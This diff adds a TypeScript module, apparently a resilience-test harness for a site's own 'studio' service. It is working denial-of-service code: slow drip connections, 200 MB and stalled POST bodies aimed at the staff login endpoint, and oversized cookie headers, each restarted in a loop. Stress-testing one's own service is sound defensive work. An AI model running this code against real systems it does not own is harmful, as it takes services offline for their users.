@@ -1,0 +1,110 @@
+import { type ClientRequest, request } from 'node:http';
+import { connect, type Socket } from 'node:net';
+import { setTimeout as delay } from 'node:timers/promises';
+
+/** What an attack sends, and how many of each are open at once. */
+export interface Attack {
+  slowConnections: number;
+  largeBodies: number;
+  stalledBodies: number;
+  cookiesPerSecond: number;
+}
+
+/** What became of an attack's requests, by answer; `closed` where the connection ended without one. */
+export type Outcomes = Record<string, number>;
+
+const wide = Buffer.alloc(64 * 1024, 'a');
+// 2,000 names fit into the 16 kB that a request's headers may have.
+const manyCookies = Array.from({ length: 2000 }, (_, number) => `c${number}=1`).join(';');
+
+/**
+ * Attacks a site until it is stopped: connections that say a byte a second, bodies of 200 MB to the studio's login,
+ * bodies that stop half way, and headers full of cookies. Every request that ends is begun again.
+ */
+export const startAttack = (url: string, attack: Attack) => {
+  const { hostname, port } = new URL(url);
+  const outcomes: Outcomes = {};
+  const open = new Set<Socket | ClientRequest>();
+  let going = true;
+  const note = (what: string | number): void => {
+    outcomes[what] = (outcomes[what] ?? 0) + 1;
+  };
+
+  const post = (length: number, headers: Record<string, string>, fill: (sent: ClientRequest) => void) =>
+    new Promise<void>((resolve) => {
+      const sent = request({
+        host: hostname,
+        port,
+        method: 'POST',
+        path: '/studio/api/staff/login',
+        headers: { 'Content-Type': 'application/json', 'Content-Length': String(length), ...headers },
+      });
+      open.add(sent);
+      let answered = false;
+      sent.on('response', (response) => {
+        answered = true;
+        note(response.statusCode ?? 0);
+        response.resume();
+      });
+      sent.on('error', () => {});
+      sent.on('close', () => {
+        if (!answered) note('closed');
+        open.delete(sent);
+        resolve();
+      });
+      fill(sent);
+    });
+
+  const sendLarge = () =>
+    post(200_000_000, {}, (sent) => {
+      const more = (): void => {
+        while (going && !sent.destroyed && sent.write(wide));
+      };
+      sent.on('drain', more);
+      more();
+    });
+
+  const sendStalled = () => post(1000, {}, (sent) => sent.write('{"email":'));
+
+  const sendSlow = () =>
+    new Promise<void>((resolve) => {
+      const socket = connect(Number(port), hostname, () =>
+        socket.write('GET / HTTP/1.1\r\nHost: a\r\nX-Slow: '),
+      );
+      open.add(socket);
+      const drip = setInterval(() => socket.write('a'), 1000);
+      socket.on('error', () => {});
+      socket.on('close', () => {
+        clearInterval(drip);
+        note('slow, closed');
+        open.delete(socket);
+        resolve();
+      });
+    });
+
+  const sendCookies = () => post(2, { Cookie: manyCookies }, (sent) => sent.end('{}'));
+
+  const again = async (send: () => Promise<void>, pause: number): Promise<void> => {
+    while (going) {
+      await send();
+      await delay(pause);
+    }
+  };
+  const side = (count: number, send: () => Promise<void>, pause: number) =>
+    Array.from({ length: count }, () => again(send, pause));
+
+  const running = [
+    ...side(attack.slowConnections, sendSlow, 100),
+    ...side(attack.largeBodies, sendLarge, 500),
+    ...side(attack.stalledBodies, sendStalled, 100),
+    ...side(attack.cookiesPerSecond, sendCookies, 1000),
+  ];
+  return {
+    outcomes,
+    async stop(): Promise<void> {
+      going = false;
+      for (const one of open) one.destroy();
+      await Promise.all(running);
+    },
+  };
+};
